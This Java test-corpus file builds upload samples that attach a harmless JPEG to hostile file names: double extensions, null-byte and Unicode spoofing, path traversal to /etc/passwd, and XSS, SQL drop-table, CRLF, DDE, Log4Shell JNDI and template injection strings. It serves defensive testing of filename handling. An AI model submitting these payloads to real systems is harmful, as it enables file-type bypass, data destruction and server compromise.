package frontdoor.files;

import frontdoor.files.Corpus.Sample;
import java.util.List;

/// A harmless picture under names that are not.
final class HostileNames {

    private HostileNames() {}

    static void add(List<Sample> all) {
        var picture = Crafted.picture("jpg");
        var names = List.of(
                "photo.jpg.exe",
                "photo.jpg ",
                "photo.jpg.",
                "photo.jpg::$DATA",
                "photo.jpg;.php",
                "photo.jpg%00.php",
                "photo.jpg\n.php",
                "photo\u202Egpj.exe",
                "photo.j\u200Bpg",
                "photo.\u0458pg",
                ".htaccess",
                "web.config",
                "jpg",
                "x".repeat(5_000),
                "x".repeat(5_000) + ".php",
                // From here on the ending is that of a picture, so it comes in, under a name that we give it.
                ".jpg",
                "photo.php.jpg",
                "photo.php\0.jpg",
                "photo\u202Egpj.jpg",
                "../../../../etc/passwd.jpg",
                "..\\..\\windows\\system32\\a.jpg",
                "file:///etc/passwd.jpg",
                "CON.jpg",
                "\"><script>alert(1)</script>.jpg",
                "'; drop table files.file; --.jpg",
                "a\r\nSet-Cookie: b=c\r\n\r\n.jpg",
                "=cmd|' /C calc'!A0.jpg",
                "${jndi:ldap://example.org/a}.jpg",
                "{{7*7}}.jpg",
                "x".repeat(5_000) + ".jpg",
                "\u00e9".repeat(5_000) + ".JPEG");
        for (int i = 0; i < names.size(); i++) {
            all.add(new Sample(names.get(i), picture, "name " + i));
        }
    }
}
